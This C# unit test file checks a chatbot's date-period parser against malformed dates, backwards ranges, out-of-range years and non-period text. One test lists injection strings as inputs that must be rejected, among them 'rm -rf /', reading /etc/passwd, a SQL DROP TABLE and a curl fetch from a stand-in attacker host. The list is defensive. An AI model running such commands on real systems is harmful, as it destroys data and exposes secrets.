using ClaudBot.Intents.Slots;

namespace ClaudBot.Intents.Tests.Slots;

public sealed class PeriodParserRejectionTests
{
    private const string OutOfRange = " is out of range: periods must lie between 1900-01-01 and 2100-12-31";

    [Theory]
    [InlineData("2024-13-01", "2024-13-01 is not a date")]
    [InlineData("2024-00-10", "2024-00-10 is not a date")]
    [InlineData("2023-02-29", "2023-02-29 is not a date")]
    [InlineData("2100-02-29", "2100-02-29 is not a date")]
    [InlineData("2024-04-31 to 2024-05-01", "2024-04-31 is not a date")]
    [InlineData("2020-01-01 to 2020-02-30", "2020-02-30 is not a date")]
    [InlineData("2024 to 2020", "the period 2024 to 2020 runs backwards")]
    [InlineData("2024-2020", "the period 2024 to 2020 runs backwards")]
    [InlineData("from 2020-12-31 to 2020-01-01", "the period 2020-12-31 to 2020-01-01 runs backwards")]
    [InlineData("2021-01-01 to 2020", "the period 2021-01-01 to 2020 runs backwards")]
    [InlineData("Jun 2021 to Jan 2020", "the period Jun 2021 to Jan 2020 runs backwards")]
    [InlineData("FY2022 to FY2020", "the period FY2022 to FY2020 runs backwards")]
    [InlineData("since 2030", "the period 2030 to today runs backwards")]
    [InlineData("FY2022-24", "FY2022-24 is not a fiscal year: the second year must follow the first (FY2022-23)")]
    [InlineData("FY2020-2022", "FY2020-2022 is not a fiscal year: the second year must follow the first (FY2020-21)")]
    [InlineData("FY1899", "FY1899" + OutOfRange)]
    [InlineData("FY1900", "FY1900" + OutOfRange)]
    [InlineData("fy2101", "fy2101" + OutOfRange)]
    [InlineData("1899", "1899" + OutOfRange)]
    [InlineData("2101", "2101" + OutOfRange)]
    [InlineData("0000", "0000" + OutOfRange)]
    [InlineData("1899 to 2020", "1899" + OutOfRange)]
    [InlineData("2020 to 2101", "2101" + OutOfRange)]
    [InlineData("1899-12-31 to 1900-01-05", "1899-12-31" + OutOfRange)]
    [InlineData("Dec 1899", "Dec 1899" + OutOfRange)]
    public void TryParse_PeriodThatIsWrong_SaysWhy(string text, string expected)
    {
        bool parsed = PeriodParser.TryParse(text, Dates.Today, out var period, out string? error);

        Assert.False(parsed);
        Assert.Equal(expected, error);
        Assert.Equal(default, period);
    }

    [Theory]
    [InlineData("")]
    [InlineData("   ")]
    [InlineData("rsi")]
    [InlineData("hello world")]
    [InlineData("20")]
    [InlineData("20201")]
    [InlineData("2020 and 2024")]
    [InlineData("2020 to")]
    [InlineData("to 2020")]
    [InlineData("2020-01")]
    [InlineData("2020/01/01")]
    [InlineData("foo 2020")]
    [InlineData("janu 2020")]
    [InlineData("today")]
    [InlineData("last 3")]
    [InlineData("last few years")]
    [InlineData("next 3 years")]
    [InlineData("the last one")]
    [InlineData("２０２０")]
    [InlineData("٢٠٢٠")]
    public void TryParse_TextThatIsNotAPeriod_IsFalseWithoutError(string text)
    {
        bool parsed = PeriodParser.TryParse(text, Dates.Today, out var period, out string? error);

        Assert.False(parsed);
        Assert.Null(error);
        Assert.Equal(default, period);
    }

    [Theory]
    [InlineData("2020; rm -rf /")]
    [InlineData("$(date)")]
    [InlineData("`date`")]
    [InlineData("${IFS}2020")]
    [InlineData("2020 && reboot")]
    [InlineData("2020-2024 | cat /etc/passwd")]
    [InlineData("2020\n; rm -rf /")]
    [InlineData("2020-01-01'; DROP TABLE jobs;--")]
    [InlineData("FY2023$(id)")]
    [InlineData("last 3 years; shutdown now")]
    [InlineData("2020 to 2024 && curl http://evil.example/x.sh")]
    [InlineData("2020\0")]
    [InlineData("ytd\r\nrm -rf /")]
    public void TryParse_ShellOrInjectionText_IsNeverAPeriod(string text)
    {
        bool parsed = PeriodParser.TryParse(text, Dates.Today, out var period, out string? error);

        Assert.False(parsed);
        Assert.Null(error);
        Assert.Equal(default, period);
    }

    [Fact]
    public void TryParse_VeryLongText_IsNotAPeriod()
    {
        string text = string.Concat(Enumerable.Repeat("2020 to 2024 ", 1000));

        Assert.False(PeriodParser.TryParse(text, Dates.Today, out _, out string? error));
        Assert.Null(error);
    }
}
